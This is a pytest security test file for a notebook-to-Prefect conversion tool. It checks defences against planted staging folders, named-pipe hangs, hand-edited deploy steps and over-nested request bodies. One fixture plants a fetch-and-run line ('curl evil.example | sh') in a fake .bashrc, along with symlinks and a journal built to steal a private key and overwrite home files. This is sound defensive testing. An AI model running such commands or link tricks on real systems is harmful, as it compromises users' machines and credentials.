"""What comes from someone else: a project folder (a staging folder it carries is never
followed; a named pipe under any name nb2pipe reads never makes a command wait), a prefect.yaml
edited by hand (its steps run only once confirmed), a request body nested too deeply.

Every command runs as a real `nb2pipe` process with a timeout, so a hang fails the test
instead of hanging the suite; the server's side runs against a real `jupyter server`.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from test_security import Server, api_path, in_child, server, small_notebook, tree

from nb2pipe.convert import convert

__all__ = ["server"]  # the module's jupyter server, shared with tests/test_security.py
SECONDS = 120  # a command that has not answered by then is stuck


def nb2pipe(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "nb2pipe", *args], capture_output=True,
                          text=True, timeout=SECONDS, cwd=cwd, stdin=subprocess.DEVNULL)


# --- a staging folder that came with the repository -------------------------------------------

def planted_staging(home: Path) -> tuple[Path, Path]:
    """A clone in `home` whose project carries the staging folder of the attack: `new` and
    `old` link to the home folder, and the journal moves the user's key into the project and
    the project's `.bashrc` over the user's. Returns (notebook, project)."""
    home.mkdir(parents=True)
    (home / ".bashrc").write_text("the user's own bashrc\n")
    (home / "id_rsa").write_text("the user's private key\n")
    notebook = small_notebook(home / "repo")
    project = home / "repo" / "small_pipeline"
    staging = project / ".nb2pipe-staging"
    staging.mkdir(parents=True)
    planted = b"curl evil.example | sh\n"
    (project / ".bashrc").write_bytes(planted)
    for name in ("new", "old"):
        (staging / name).symlink_to("../../..", target_is_directory=True)  # = home
    (staging / "journal.json").write_text(json.dumps({
        "write": [["id_rsa", None]],
        "remove": [[".bashrc", hashlib.sha256(planted).hexdigest()]]}))
    return notebook, project


def test_a_staging_folder_from_a_repository_is_never_followed(tmp_path: Path) -> None:
    home = tmp_path / "home"
    notebook, project = planted_staging(home)
    before = tree(home)
    converted = nb2pipe("convert", str(notebook))
    assert converted.returncode == 2, converted
    message = converted.stderr.strip()
    assert message.count("\n") == 0 and "Traceback" not in message
    assert ".nb2pipe-staging: not made by nb2pipe on this machine" in message
    assert "delete that folder" in message
    assert tree(home) == before  # nothing moved, written or deleted, the links left as they are
    checked = nb2pipe("convert", str(notebook), "--check")
    assert checked.returncode == 1, checked
    [line] = [x for x in checked.stdout.splitlines() if ".nb2pipe-staging" in x]
    assert "not made by nb2pipe on this machine" in line and "finish" not in line
    assert tree(home) == before


def test_a_staging_folder_without_links_from_a_repository_is_left_alone(tmp_path: Path) -> None:
    """No link at all, a journal naming files inside the project only: still not ours."""
    notebook = small_notebook(tmp_path / "repo")
    project = tmp_path / "repo" / "small_pipeline"
    assert convert(notebook, project).ok
    (project / "notes.md").write_text("the user's notes\n")
    staging = project / ".nb2pipe-staging"
    (staging / "new").mkdir(parents=True)
    (staging / "new" / "notes.md").write_text("replaced\n")
    digest = hashlib.sha256(b"the user's notes\n").hexdigest()
    (staging / "journal.json").write_text(json.dumps({"write": [["notes.md", digest]],
                                                      "remove": []}))
    (staging / "origin-1-2").write_text("")  # a mark, but not of this folder
    before = tree(project)
    with pytest.raises(Exception, match="has no mark of this folder"):
        convert(small_notebook(tmp_path / "repo", factor=4), project)
    assert tree(project) == before


def killed_after_commit(tmp_path: Path) -> tuple[Path, Path]:
    """A project whose second conversion was killed just after its journal was committed."""
    def project_in(folder: Path) -> tuple[Path, Path]:
        notebook = small_notebook(folder)
        project = folder / "project"
        assert convert(notebook, project).ok
        small_notebook(folder, factor=4)
        return notebook, project

    notebook, project = project_in(tmp_path / "count")
    written, _ = in_child(lambda: convert(notebook, project))
    inside = [op for op in written if str(project) in op]
    commit = next(i for i, op in enumerate(inside, start=1) if op.endswith("journal.json"))
    notebook, project = project_in(tmp_path / "work")
    _, killed = in_child(lambda: convert(notebook, project), kill_at=commit + 1, watch=project)
    assert killed and (project / ".nb2pipe-staging" / "journal.json").is_file()
    return notebook, project


def test_a_write_killed_here_is_finished_but_a_copy_of_it_is_not_trusted(tmp_path: Path) -> None:
    notebook, project = killed_after_commit(tmp_path)
    copy = tmp_path / "copy"
    shutil.copytree(project, copy, symlinks=True)  # new folders: another machine, a checkout
    before = tree(copy)
    with pytest.raises(Exception, match="not made by nb2pipe on this machine"):
        convert(notebook, copy)
    assert tree(copy) == before
    assert "finish" not in " ".join(convert(notebook, copy, check=True).stale)
    assert ".nb2pipe-staging: a conversion was interrupted; run nb2pipe convert to finish it" \
        in convert(notebook, project, check=True).stale
    assert convert(notebook, project).ok  # the write killed in this very folder is finished
    assert not (project / ".nb2pipe-staging").exists()
    assert convert(notebook, project, check=True).stale == []


@pytest.mark.parametrize("swap", ["new", "old", "new/flow.py", "journal.json"])
def test_a_link_in_a_staging_folder_of_ours_is_refused(swap: str, tmp_path: Path) -> None:
    """Links swapped into a genuine interrupted write: nothing is followed through them."""
    notebook, project = killed_after_commit(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "flow.py").write_text("outside\n")
    (outside / "journal.json").write_text("{}")
    swapped = project / ".nb2pipe-staging" / swap
    if swapped.is_dir():
        shutil.rmtree(swapped)
    else:
        swapped.unlink(missing_ok=True)
    swapped.symlink_to(outside / "flow.py" if swap.endswith(".py") else
                       outside / "journal.json" if swap.endswith(".json") else outside)
    before, project_before = tree(outside), tree(project)
    with pytest.raises(Exception, match="not made by nb2pipe on this machine.*symbolic link"):
        convert(notebook, project)
    assert tree(outside) == before and tree(project) == project_before


def test_the_staging_folder_keeps_itself_out_of_git(tmp_path: Path) -> None:
    notebook, project = killed_after_commit(tmp_path)
    git = ["git", "-c", "user.email=a@b", "-c", "user.name=a", "-C", str(project)]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    listed = subprocess.run([*git, "ls-files"], check=True, capture_output=True, text=True)
    assert "flow.py" in listed.stdout.split() and ".nb2pipe-staging" not in listed.stdout


def test_an_empty_staging_folder_is_removed(tmp_path: Path) -> None:
    """A write killed between making the folder and marking it leaves it empty."""
    notebook = small_notebook(tmp_path)
    project = tmp_path / "project"
    (project / ".nb2pipe-staging").mkdir(parents=True)
    assert convert(notebook, project).ok
    assert not (project / ".nb2pipe-staging").exists()


@pytest.mark.integration
def test_export_never_follows_a_staging_folder_from_a_repository(
        server: Server, tmp_path: Path) -> None:
    home = server.jupyter.root / tmp_path.name
    notebook, project = planted_staging(home)
    before = tree(home)
    status, reply = server.request("POST", "nb2pipe/export", {
        "path": api_path(server, notebook), "output": api_path(server, project)})
    assert status == 409, reply
    assert "not made by nb2pipe on this machine" in reply["message"], reply
    assert tree(home) == before
    status, diff = server.request("POST", "nb2pipe/export/diff", {
        "path": api_path(server, notebook), "output": api_path(server, project)})
    assert status == 200 and tree(home) == before, diff
    assert server.written_outside(server.writes.parent) == []


# --- named pipes under the names nb2pipe reads ----------------------------------------------

def converted(tmp_path: Path) -> tuple[Path, Path]:
    notebook = small_notebook(tmp_path)
    project = tmp_path / "small_pipeline"
    assert convert(notebook, project, record=False).ok
    return notebook, project


def fifo(path: Path) -> Path:
    """`path` replaced by a named pipe nobody writes to: reading it would wait forever."""
    if path.is_dir():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)
    return path


def one_error_line(result: subprocess.CompletedProcess[str], code: int, *words: str) -> None:
    assert result.returncode == code, result
    assert "Traceback" not in result.stderr and result.stderr.count("\n") == 1, result.stderr
    assert all(w in result.stderr for w in words), result.stderr


def raw_request(server: Server, path: str, body: bytes) -> tuple[int, dict[str, str]]:
    import urllib.error
    import urllib.request

    request = urllib.request.Request(
        server.jupyter.url + path, data=body, method="POST",
        headers={"Authorization": f"token {server.jupyter.token}",
                 "Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(request, timeout=SECONDS) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read())


def test_a_pipe_named_pipeline_json_stops_convert_and_check_at_once(tmp_path: Path) -> None:
    notebook, project = converted(tmp_path)
    fifo(project / "pipeline.json")
    for args in (("convert", str(notebook)), ("convert", str(notebook), "--check"),
                 ("convert", str(notebook), "--force")):
        one_error_line(nb2pipe(*args), 2, "pipeline.json", "named pipe (FIFO)")
    # the pre-commit hook and the GitHub Action: every project under the folder
    one_error_line(nb2pipe("convert", "--check", cwd=tmp_path), 2, "pipeline.json",
                   "named pipe")
    one_error_line(nb2pipe("run", str(project)), 2, "pipeline.json")
    one_error_line(nb2pipe("deploy", str(project)), 2, "pipeline.json")


@pytest.mark.parametrize("name", ["flow.py", "steps.py", "prefect.yaml", "README.md",
                                  "nb2pipe_runtime/project.py"])
def test_a_pipe_named_like_a_generated_file_is_reported_not_read(name: str,
                                                                 tmp_path: Path) -> None:
    notebook, project = converted(tmp_path)
    fifo(project / name)
    checked = nb2pipe("convert", str(notebook), "--check")
    assert checked.returncode == 1, checked
    assert f"{name}: is a named pipe (FIFO), not a regular file" in checked.stdout
    one_error_line(nb2pipe("convert", str(notebook)), 2, name, "not written by nb2pipe")
    assert nb2pipe("convert", str(notebook), "--force").returncode == 0  # replaced by the file
    assert (project / name).is_file()


def test_a_pipe_in_the_project_stops_run_at_once(tmp_path: Path) -> None:
    _, project = converted(tmp_path)
    fifo(project / "steps.py")
    one_error_line(nb2pipe("run", str(project)), 2, "steps.py", "named pipe")


def test_a_pipe_among_recorded_fixtures_is_no_fixture(tmp_path: Path) -> None:
    notebook, project = converted(tmp_path)
    document = json.loads((project / "pipeline.json").read_text())
    document["options"]["record"] = True  # fixtures are read back from the folder
    (project / "pipeline.json").write_text(json.dumps(document))
    fifo(project / "tests" / "fixtures" / "load" / "outputs" / "numbers.json")
    assert nb2pipe("convert", str(notebook), "--check").returncode == 1


@pytest.mark.parametrize("trusted", [False, True], ids=["planted", "ours"])
def test_a_pipe_named_journal_json_stops_the_write_at_once(trusted: bool,
                                                           tmp_path: Path) -> None:
    if trusted:
        notebook, project = killed_after_commit(tmp_path)
    else:
        notebook, project = converted(tmp_path)
        (project / ".nb2pipe-staging").mkdir()
    fifo(project / ".nb2pipe-staging" / "journal.json")
    one_error_line(nb2pipe("convert", str(notebook), "-o", str(project)), 2,
                   "not made by nb2pipe on this machine",
                   "named pipe" if trusted else "no mark of this folder")
    checked = nb2pipe("convert", str(notebook), "-o", str(project), "--check")
    assert checked.returncode == 1 and "not made by nb2pipe" in checked.stdout, checked


@pytest.mark.integration
def test_export_and_its_diff_answer_at_once_for_pipes_in_the_project(server: Server,
                                                                     tmp_path: Path) -> None:
    folder = server.jupyter.root / tmp_path.name
    notebook, project = converted(folder)
    body = {"path": api_path(server, notebook), "output": api_path(server, project)}
    fifo(project / "pipeline.json")
    for endpoint in ("nb2pipe/export", "nb2pipe/export/diff"):  # each answers, in SECONDS
        status, reply = raw_request(server, endpoint, json.dumps(body).encode())
        assert status in (200, 409) and "pipeline.json: is a named pipe" in reply["message"], (
            endpoint, reply)
    (project / "pipeline.json").unlink()
    assert convert(notebook, project, force=True).ok
    fifo(project / "flow.py")
    status, diff = server.request("POST", "nb2pipe/export/diff", body)
    assert status == 200, diff
    [entry] = [f for f in diff["files"] if f["path"].endswith("flow.py")]
    assert "is a named pipe (FIFO) now" in entry["diff"]
    status, reply = server.request("POST", "nb2pipe/export", body)
    assert status == 409 and "flow.py (not written by nb2pipe)" in reply["message"], reply
    assert server.request("GET", "api/status")[0] == 200


# --- a prefect.yaml edited by hand --------------------------------------------------------

def with_build_step(project: Path, marker: Path) -> None:
    """prefect.yaml with a build step added by hand: `prefect deploy` would run it here."""
    path = project / "prefect.yaml"
    text = path.read_text().replace("build: null", (
        "build:\n  - prefect.deployments.steps.run_shell_script:\n"
        f"      script: touch {marker}"))
    assert "run_shell_script" in text
    path.write_text(text)


def deploy_env(tmp_path: Path) -> dict[str, str]:
    """No Prefect server answers: a deploy that gets past its questions stops at the API."""
    from test_deploy import free_port

    return {**os.environ, "PREFECT_API_URL": f"http://127.0.0.1:{free_port()}/api",
            "PREFECT_HOME": str(tmp_path / "prefect-home")}


def test_deploying_a_hand_edited_prefect_yaml_off_a_terminal_needs_yes(tmp_path: Path) -> None:
    _, project = converted(tmp_path)
    marker = tmp_path / "BUILT"
    with_build_step(project, marker)
    env = deploy_env(tmp_path)
    result = subprocess.run([sys.executable, "-m", "nb2pipe", "deploy", str(project)], env=env,
                            capture_output=True, text=True, timeout=SECONDS,
                            stdin=subprocess.DEVNULL)
    assert result.returncode == 2, result
    lines = result.stderr.splitlines()
    assert lines[0] == (f"nb2pipe: {project / 'prefect.yaml'} was edited by hand since nb2pipe "
                        "wrote it; deploying it runs 2 build, push or pull steps of its own")
    assert lines[1] == ('  build: {"prefect.deployments.steps.run_shell_script": '
                        f'{{"script": "touch {marker}"}}}}')
    assert lines[2].startswith("  pull: ") and "set_working_directory" in lines[2]
    assert lines[-1].endswith("re-run with --yes to deploy it as it is")
    assert "Prefect API" not in result.stderr and not marker.exists()
    # With --yes it goes on (to the Prefect API, which does not answer here)
    result = subprocess.run([sys.executable, "-m", "nb2pipe", "deploy", str(project), "--yes"],
                            env=env, capture_output=True, text=True, timeout=SECONDS,
                            stdin=subprocess.DEVNULL)
    assert result.returncode == 1 and "cannot reach the Prefect API" in result.stderr, result


def on_a_terminal(args: list[str], answer: str, env: dict[str, str]
                  ) -> subprocess.CompletedProcess[str]:
    """Run nb2pipe with a terminal as its stdin, typing `answer` to it."""
    import pty

    controller, terminal = pty.openpty()
    try:
        process = subprocess.Popen([sys.executable, "-m", "nb2pipe", *args], env=env,
                                   stdin=terminal, stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE, text=True)
        os.write(controller, answer.encode() + b"\n")
        stdout, stderr = process.communicate(timeout=SECONDS)
    finally:
        os.close(controller)
        os.close(terminal)
    return subprocess.CompletedProcess(args, process.returncode, stdout, stderr)


@pytest.mark.parametrize("answer", ["n", "", "y"])
def test_deploying_a_hand_edited_prefect_yaml_on_a_terminal_asks(answer: str,
                                                                 tmp_path: Path) -> None:
    _, project = converted(tmp_path)
    marker = tmp_path / "BUILT"
    with_build_step(project, marker)
    result = on_a_terminal(["deploy", str(project)], answer, deploy_env(tmp_path))
    assert "run_shell_script" in result.stderr and (
        "Deploy it as it is, running these steps? [y/N]" in result.stderr), result
    if answer == "y":
        assert result.returncode == 1 and "cannot reach the Prefect API" in result.stderr
    else:
        assert result.returncode == 1 and "nothing was deployed" in result.stderr
        assert "Prefect API" not in result.stderr
    assert not marker.exists()


def test_a_prefect_yaml_as_generated_deploys_without_a_question(tmp_path: Path) -> None:
    _, project = converted(tmp_path)
    result = on_a_terminal(["deploy", str(project)], "n", deploy_env(tmp_path))
    assert result.returncode == 1 and "cannot reach the Prefect API" in result.stderr, result
    assert "edited" not in result.stderr and "[y/N]" not in result.stderr
    unstamped = (project / "prefect.yaml").read_text().split("\n", 1)[1]
    (project / "prefect.yaml").write_text(unstamped)  # pipeline.json has another hash of it
    result = on_a_terminal(["deploy", str(project)], "n", deploy_env(tmp_path))
    assert "prefect.yaml was edited by hand" in result.stderr, result
    assert "nothing was deployed" in result.stderr


def test_a_pipe_named_prefect_yaml_stops_deploy_at_once(tmp_path: Path) -> None:
    _, project = converted(tmp_path)
    fifo(project / "prefect.yaml")
    one_error_line(nb2pipe("deploy", str(project)), 2, "prefect.yaml", "named pipe")


def test_a_prefect_yaml_is_deployed_unasked_only_as_nb2pipe_wrote_it(tmp_path: Path) -> None:
    from nb2pipe.deploy import read_prefect_file

    _, project = converted(tmp_path)
    recorded = json.loads((project / "pipeline.json").read_text())["files"]["prefect.yaml"]
    assert read_prefect_file(project, recorded)[1] is None
    unstamped = (project / "prefect.yaml").read_text().split("\n", 1)[1].encode()
    (project / "prefect.yaml").write_bytes(unstamped)
    found = read_prefect_file(project, None)[1]
    assert found is not None and not found.stamped
    assert str(found).endswith("prefect.yaml was not written by nb2pipe; deploying it runs 1 "
                               "build, push or pull step of its own")
    recorded = hashlib.sha256(unstamped).hexdigest()
    assert read_prefect_file(project, recorded)[1] is None  # as pipeline.json recorded it


# --- request bodies nested too deeply -----------------------------------------------------

@pytest.mark.integration
def test_a_request_body_nested_too_deeply_is_a_400(server: Server, tmp_path: Path) -> None:
    notebook = api_path(server, small_notebook(server.jupyter.root / tmp_path.name))
    deep = 100_000  # Python's parser gives up (RecursionError)
    nested = b"[" * deep + b"]" * deep
    shallow_enough_to_parse = json.dumps(json.loads("[" * 500 + "]" * 500))  # deeper than needed
    content = {"cells": [], "metadata": {"deep": json.loads(shallow_enough_to_parse)},
               "nbformat": 4, "nbformat_minor": 5}
    cases = [
        (f"nb2pipe/analyze?path={notebook}", nested),
        (f"nb2pipe/analyze?path={notebook}", json.dumps(content).encode()),
        ("nb2pipe/split", b'{"path": "' + notebook.encode() + b'", "split": "cells", '
                          b'"content": {"x": ' + nested + b"}}"),
        ("nb2pipe/split", json.dumps({"path": notebook, "split": "cells",
                                      "content": content}).encode()),
        ("nb2pipe/export", b'{"path": ' + nested + b"}"),
        ("nb2pipe/export/diff", nested),
        ("nb2pipe/runs", b'{"parameters": ' + nested + b"}"),
        ("nb2pipe/tags", nested),
    ]
    for path, body in cases:
        status, reply = raw_request(server, path, body)
        assert status == 400, (path, status, reply)
        assert "nested too deeply" in reply["message"] and "\n" not in reply["message"], reply
    assert server.request("GET", "api/status")[0] == 200
